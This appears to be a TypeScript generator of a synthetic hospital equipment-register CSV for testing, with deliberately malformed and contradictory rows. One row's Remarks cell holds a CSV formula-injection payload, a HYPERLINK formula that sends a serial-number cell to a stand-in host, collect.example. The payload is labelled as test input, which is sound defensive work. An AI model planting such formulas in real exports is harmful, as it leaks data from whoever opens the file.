// SPDX-License-Identifier: Apache-2.0
import { dayMonthYear } from './calendar.ts';
import { type CsvCell, CsvFile } from './csv-file.ts';
import type { FileReport } from './expectation.ts';
import type { Unit } from './fleet.ts';
import type { Hospital } from './hospital.ts';
import { sites } from './network-plan.ts';
import { namesWithTitle } from './people.ts';
import type { Random } from './random.ts';

export const cmmsFile = 'cmms-export-2026-10.csv';

const header = [
  'Equipment No',
  'Asset Tag',
  'Description',
  'Device Type',
  'Manufacturer',
  'Model',
  'Serial No.',
  'UDI-DI',
  'Software Version',
  'Operating System',
  'Site',
  'Department',
  'Room',
  'Responsible',
  'Criticality',
  'Status',
  'In service since',
  'Last PM',
  'PM Due',
  'End of Support',
  'MAC Address',
  'IP Address',
  'Hostname',
  'Service Provider',
  'Remarks',
];
const column = (name: string): number => header.indexOf(name);
const engineers = namesWithTitle('Biomedical Engineer');
const firstOddRow = 40;

/**
 * The export of the medical equipment register: semicolons, Windows-1252, British dates. Biomedical engineering knows the
 * devices well and the network badly, so addresses are missing or old.
 */
export async function writeCmms(folder: string, hospital: Hospital): Promise<FileReport> {
  const file = new CsvFile(folder, cmmsFile, { delimiter: ';', encoding: 'win1252' });
  await file.head(header);
  const early: CsvCell[][] = [];
  let row = 0;
  for (const unit of hospital.units()) {
    const cells = unitCells(unit);
    await file.record(cells);
    if (row < firstOddRow) early.push(cells);
    row += 1;
    if (row === firstOddRow) await writeOddRows(file, early);
  }
  return file.close('asset-list');
}

function unitCells(unit: Unit): CsvCell[] {
  const { link, model } = unit;
  const random = unit.random('cmms');
  const day = (date: string | undefined): string => (date === undefined ? '' : dayMonthYear(date));
  return [
    unit.equipmentNo,
    unit.assetTag,
    model.type,
    deviceType(model.category),
    model.maker,
    model.model,
    unit.serial,
    random.chance(0.93) ? unit.udiDi : '',
    unit.software && random.chance(0.9) ? unit.software : '',
    model.os && random.chance(0.85) ? model.os : '',
    sites[unit.site].name,
    unit.department,
    unit.room,
    random.chance(0.92) ? random.pick(engineers) : '',
    model.criticality,
    unit.status,
    day(unit.commissioned),
    day(unit.lastPm),
    day(unit.pmDue),
    day(model.endOfSupport),
    ...addresses(unit, random),
    random.chance(0.8) ? `${model.maker} Service` : 'Biomedical Engineering',
    link?.guest ? 'Ward reports that it works better on the visitors’ Wi-Fi' : remark(unit, random),
  ];
}

/** MAC, IP and host name as far as somebody typed them in, each in that person's own notation. */
function addresses({ link, site }: Unit, random: Random): CsvCell[] {
  if (!link) return ['', '', ''];
  const mac = random.chance(0.85) || link.guest ? macNotation(link.mac, random.between(0, 3)) : '';
  const old = random.chance(0.06) ? `10.${sites[site].second}.250.${random.between(1, 254)}` : link.ip;
  const ip = !link.guest && random.chance(0.4) ? old : '';
  return [mac, ip, random.chance(0.6) ? link.hostname.split('.', 1)[0] : ''];
}

function macNotation(mac: string, way: number): string {
  if (way === 0) return mac.toUpperCase();
  if (way === 1) return mac.replaceAll('-', '');
  return mac.replaceAll('-', ':').toUpperCase();
}

function remark({ model }: Unit, random: Random): string {
  if (random.chance(0.95)) return '';
  const remarks = [
    'Loan to Riverside Women & Children',
    'Battery replaced',
    'Do not patch without the maker',
    'Café side rack – check brake',
  ];
  return model.portable ? random.pick(remarks) : 'Do not patch without the maker';
}

function deviceType(category: string): string {
  return category.charAt(0).toUpperCase() + category.slice(1);
}

/** What a real export holds after years of typing: some rows cannot be read, others only contradict each other. */
async function writeOddRows(file: CsvFile, rows: readonly CsvCell[][]): Promise<void> {
  await writeUnreadable(file, rows);
  await writeContradictions(file, rows);
}

/** A row of a device that is not in the fleet, made like one that is. */
function like(rows: readonly CsvCell[][], n: number, changes: Readonly<Record<string, CsvCell>>): CsvCell[] {
  const cells = [...(rows[n] ?? [])];
  const own = {
    'Equipment No': `EQ-9000${n + 10}`,
    'Asset Tag': `RHG9000${n + 10}`,
    'Serial No.': `XX990000${n + 10}`,
    'MAC Address': '',
    'IP Address': '',
    Hostname: '',
    Remarks: '',
  };
  for (const [name, value] of Object.entries({ ...own, ...changes })) cells[column(name)] = value;
  return cells;
}

async function writeUnreadable(file: CsvFile, rows: readonly CsvCell[][]): Promise<void> {
  await file.bad(like(rows, 1, { 'Equipment No': '' }), 'no key');
  await file.bad(like(rows, 2, { 'Last PM': '31/02/2026' }), 'a date that the calendar does not have');
  await file.bad(like(rows, 3, { 'PM Due': 'soon' }), 'not a date');
  await file.bad([...like(rows, 4, {}), 'moved', 'from 4B'], 'cells where the header has');
  await file.bad(like(rows, 5, {}).slice(0, 9), 'cells where the header has');
  await file.bad(like(rows, 6, { 'Equipment No': rows[6]?.[0] }), 'the same key as');
  await file.badLine('EQ-900017;RHG900017;"Infusion pump, 1 litre;Infusion;Brevanta;BV-3', 'quotation mark');
}

async function writeContradictions(file: CsvFile, rows: readonly CsvCell[][]): Promise<void> {
  const other = (n: number, name: string): CsvCell => rows[n]?.[column(name)];
  await file.odd(
    like(rows, 8, { 'Asset Tag': other(8, 'Asset Tag') }),
    'asset tag of another device with another serial number: identity conflict',
  );
  await file.odd(
    like(rows, 9, { 'Serial No.': other(9, 'Serial No.') }),
    'maker, model and serial number of another equipment number: one device entered twice',
  );
  const shared = { 'MAC Address': '44-0D-31-00-00-2A' };
  await file.odd(like(rows, 10, shared), 'hardware address that the next row has too');
  await file.odd(like(rows, 11, shared), 'hardware address that the row before has too');
  await file.odd(
    like(rows, 12, { Remarks: '=HYPERLINK("http://collect.example/?"&G12,"see manual")' }),
    'remark that a spreadsheet would run as a formula',
  );
  await file.odd(
    like(rows, 13, { 'UDI-DI': '9,5200011E+12' }),
    'device identifier that a spreadsheet has rounded: left out',
  );
}
